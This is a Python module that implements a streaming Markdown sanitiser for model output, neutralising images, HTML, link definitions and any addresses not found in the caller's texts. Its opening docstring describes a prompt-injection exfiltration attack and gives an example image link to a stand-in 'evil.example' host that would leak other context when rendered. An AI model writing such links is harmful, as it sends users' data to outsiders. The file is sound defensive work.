r"""Markdown that shows and does nothing: no image, no HTML, no link to an address that the reader's texts do not hold.

Whoever can put a note before a model can ask it to write `![](https://evil.example/?q=what-the-other-notes-say)`,
which a client fetches as soon as it shows it. So in an answer

- `<` that could open a tag, a comment or an autolink becomes `‹`;
- no `[` follows a `!`: images with an address that may stay become links, others their description;
- `[text](address)` stays where the address stands in one of the texts that the caller gives and leads to a web page
  or a mailbox (its title goes); otherwise `text` is left of it, in its brackets where it could join with what stands
  beside it;
- a bare address that stands in none of them becomes `‹link removed›`;
- definitions (`[label]: address`) get a blank before the colon, so that none defines anything.

Code is content and stays: spans that close on their line, and blocks whose fence stands at the line's start, which
every CommonMark parser reads alike. Where parsers may differ (a span that does not close, one in a table's row, a
fence inside a list) nothing counts as code up to the paragraph's or the text's end. Labels of citations stay; none
goes, and none comes about: what goes leaves something in its place.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Mapping, Sequence
from functools import partial

from shared.markdown.links import (
    ADDRESS,
    LINK,
    LINK_START,
    LONGEST,
    MAY_BE_LINK,
    MAY_BE_TARGET,
    MAY_START,
    PLAIN_TEXT,
    POINTS_SOMEWHERE,
    TARGET,
    bare_address,
    like_a_label,
    may_be_followed,
    stands_in,
    whole_addresses,
)

REMOVED = "‹link removed›"

_SPECIAL = re.compile(rf"[`\\<>\[\]\n]|!(?=\[|\Z)|~{{3,}}|~+\Z|{LINK_START}", re.IGNORECASE)
_HARMLESS_AFTER_LESS = frozenset(" \t\n0123456789=-<‹")
_LABEL = re.compile(r"\[N\d+\]")
_JOINS_BEFORE, _JOINS_AFTER = frozenset(" \t\n(*_\"“'"), frozenset(" \t\n.,;!?)*_\"”'")
_CONTAINER = re.compile(r"[ \t>*+\-\d.):~]*")
_INFO = re.compile(r"[^`<>]*")
_BEYOND_A_LINE = re.compile("[|\x85\u2028\u2029]")
_TICKS = re.compile(r"`+")
_RUN = re.compile(r"`+|~+")
_LONGEST_SPAN, _LONGEST_INFO = 1000, 200
_LINE_KEPT = 64
_ALWAYS_READ = 200
"""Characters held back up to which every new one is looked at; beyond, a sixteenth of it must have come."""


def passive(text: str, texts: Sequence[str] = ()) -> str:
    """Markdown -> the same made passive; `texts`: where the addresses stand that may stay. Made so twice, it stays."""
    stream = PassiveStream(texts)
    return stream.feed(text) + stream.finish()


class PassiveStream:
    """`passive` for a text that is still being written: whatever the pieces, together they give the same text."""

    def __init__(self, texts: Sequence[str]) -> None:
        self._texts = texts
        self._readers: Mapping[str, Callable[[], bool]] = {
            "\n": self._newline,
            "\\": self._escape,
            "<": self._less,
            ">": self._greater,
            "`": self._run,
            "~": self._run,
            "!": self._image,
            "[": self._bracket,
            "]": partial(self._take, "]"),
        }
        self._text = ""
        self._at = 0
        self._unread: list[str] = []
        self._sent: list[str] = []
        self._final = False
        self._last = "\n"
        self._line = ""
        """What was sent of this line, its start."""
        self._fence = ""
        """That of the block of code we are in."""
        self._no_spans = False
        """Nothing counts as a span of code up to the paragraph's end."""
        self._no_code = False
        self._opened_angle = False
        self._may_define = True
        """Whether the bracket that is open, or was closed last, may be the label of a definition."""

    def feed(self, text: str) -> str:
        """The next of the text -> the next of the passive text, often empty."""
        self._unread.append(text)
        if len(self._text) > _ALWAYS_READ and sum(map(len, self._unread)) * 16 < len(self._text):
            return ""
        return self._read()

    def finish(self) -> str:
        """The text is complete: the rest."""
        self._final = True
        return self._read()

    def _read(self) -> str:
        self._text, self._at = "".join((self._text, *self._unread)), 0
        self._unread.clear()
        self._sent = []
        while self._at < len(self._text) and self._step():
            pass
        self._text = self._text[self._at :]
        return "".join(self._sent)

    def _step(self) -> bool:
        """The next piece. False: it takes more text to decide it."""
        if self._fence:
            return self._line_of_code()
        if self._last == "]" and self._text[self._at] in "(:":
            return self._after_bracket()
        found = _SPECIAL.search(self._text, self._at)
        if found is None or found.start() > self._at:
            return self._plain(found.start() if found else len(self._text))
        read = self._readers.get(found[0][0])
        return read() if read else self._bare_address(found[0])

    def _take(self, taken: str, sent: str | None = None) -> bool:
        """Go on behind `taken`, for which `sent` is shown; None: itself."""
        self._at += len(taken)
        text = taken if sent is None else sent
        if text:
            self._sent.append(text)
            self._last = text[-1]
            self._line = (self._line + text[:_LINE_KEPT])[:_LINE_KEPT]
        return True

    def _follows(self, length: int) -> str | None:
        """The character `length` on; empty: the text ends before; None: not known yet."""
        following = self._text[self._at + length : self._at + length + 1]
        return following if following or self._final else None

    def _plain(self, end: int) -> bool:
        if end == len(self._text) and not self._final and (found := MAY_START.search(self._text, self._at)):
            end = found.start()
        return end > self._at and self._take(self._text[self._at : end])

    def _newline(self) -> bool:
        if not self._line.strip():
            self._no_spans = False
        self._take("\n")
        self._line, self._opened_angle, self._may_define = "", False, True
        return True

    def _escape(self) -> bool:
        following = self._follows(1)
        if following is None:
            return False
        escaped = following.isascii() and following.isprintable() and not following.isalnum() and following not in "< "
        return self._take("\\" + following * escaped)

    def _greater(self) -> bool:
        closed, self._opened_angle = self._opened_angle, False
        return self._take(">", "›" if closed else ">")

    def _less(self) -> bool:
        following = self._follows(1)
        if following is None:
            return False
        if not following or following in _HARMLESS_AFTER_LESS:
            return self._take("<")
        self._opened_angle = True
        return self._take("<", "‹")

    # -- code

    def _run(self) -> bool:
        """Backticks or tildes."""
        found = _RUN.match(self._text, self._at)
        assert found  # noqa: S101 - it begins with one
        run = found[0]
        if self._follows(len(run)) is None:
            return False
        if len(run) > 2 and not self._no_code:  # three make a fence
            if not self._line:
                return self._open_fence(run)
            self._no_code = _CONTAINER.fullmatch(self._line) is not None
        if run[0] == "~" or self._no_code or self._no_spans:
            return self._take(run)
        return self._span(run)

    def _open_fence(self, run: str) -> bool:
        end = self._text.find("\n", self._at)
        length = (len(self._text) if end < 0 else end) - self._at
        if end < 0 and not self._final and length <= _LONGEST_INFO:
            return False
        line = self._text[self._at : self._at + length]
        if length > _LONGEST_INFO or not _INFO.fullmatch(line[len(run) :]):
            self._no_code = True  # whether this opens a block is not ours to tell
            return self._take(run)
        self._fence = run
        return self._whole_line(line)

    def _line_of_code(self) -> bool:
        end = self._text.find("\n", self._at)
        if end < 0 and not self._final:
            return False
        line = self._text[self._at : end if end >= 0 else len(self._text)]
        closes = re.fullmatch(rf" {{0,3}}{self._fence[0]}{{{len(self._fence)},}}[ \t]*", line)
        if closes:
            self._fence = ""
        return self._whole_line(line)

    def _whole_line(self, line: str) -> bool:
        self._take(line)
        if self._at < len(self._text):
            self._newline()
            self._no_spans = False
        return True

    def _span(self, run: str) -> bool:
        newline = self._text.find("\n", self._at)
        limit = self._at + _LONGEST_SPAN
        end = min(limit, len(self._text) if newline < 0 else newline)
        for found in _TICKS.finditer(self._text, self._at + len(run)):
            if found.start() >= end:
                break
            if found[0] == run and (found.end() < len(self._text) or self._final):
                return self._closed_span(self._text[self._at : found.end()], run)
        if newline < 0 and not self._final and len(self._text) < limit + len(run) + 1:
            return False
        self._no_spans = True
        return self._take(run)

    def _closed_span(self, span: str, run: str) -> bool:
        if _BEYOND_A_LINE.search(span):
            self._no_spans = True
            return self._take(run)
        return self._take(span)

    # -- links

    def _image(self) -> bool:
        if self._follows(1) is None or self._waits_for_link(1):
            return False
        return self._link(1) or self._take("!")

    def _bracket(self) -> bool:
        if self._waits_for_link(0):
            return False
        if self._link(0):
            return True
        self._may_define = self._may_define and _CONTAINER.fullmatch(self._line) is not None
        label = _LABEL.match(self._text, self._at)
        return self._take(label[0]) if label else self._take("[", " [" if self._last == "!" else "[")

    def _waits_for_link(self, ahead: int) -> bool:
        """Whether what begins `ahead` characters on may be a link, and more text decides."""
        start = self._at + ahead
        if self._final or _LABEL.match(self._text, start):
            return False
        link = LINK.match(self._text, start)
        return MAY_BE_LINK.match(self._text, start) is not None or (link is not None and link.end() == len(self._text))

    def _link(self, ahead: int) -> bool:
        """Whether a link, or with one character ahead an image, was taken as a whole."""
        link = LINK.match(self._text, self._at + ahead)
        if not link or _LABEL.match(self._text, self._at + ahead):
            return False
        text, address = link["text"], link["address"]
        if not PLAIN_TEXT.fullmatch(text) or not POINTS_SOMEWHERE.search(address):
            return False
        whole = self._text[self._at : link.end()]
        if may_be_followed(address) and stands_in(address, self._texts):
            return self._take(whole, f"{' ' if self._last in '!]' else ''}[{text}]({address})")
        following = self._text[link.end() : link.end() + 1]
        alone = self._last in _JOINS_BEFORE and (not following or following in _JOINS_AFTER)
        if alone and not like_a_label(text) and ADDRESS.search(text) is None:
            return self._take(whole, text)
        return False

    def _after_bracket(self) -> bool:
        if self._text[self._at] == ":":
            return self._take(":", " :" if self._may_define else ":")
        target = TARGET.match(self._text, self._at)
        if not target and not self._final and MAY_BE_TARGET.match(self._text, self._at):
            return False
        if target and POINTS_SOMEWHERE.search(target["address"]) and not stands_in(target["address"], self._texts):
            self._at = target.end()
            return True
        return self._take("(", " (")

    def _bare_address(self, start: str) -> bool:
        if self._last.isalnum() and self._last.isascii():
            return self._take(start)
        found = ADDRESS.match(self._text, self._at)
        assert found  # noqa: S101 - it begins with `start`
        if found.end() == len(self._text) and not self._final and len(found[0]) < len(start) + LONGEST:
            return False
        if found[0] == start:
            return self._take(start)
        if any(stands_in(address, self._texts) for address in whole_addresses(found[0])):
            return self._known_address(found[0])
        blank = " " if self._last == "]" else ""
        return self._take(bare_address(found[0]), blank + REMOVED)

    def _known_address(self, run: str) -> bool:
        """What follows must not become a part of it."""
        following = self._text[self._at + len(run) : self._at + len(run) + 1]
        return self._take(run, run if not following or following.isspace() else f"{run} ")
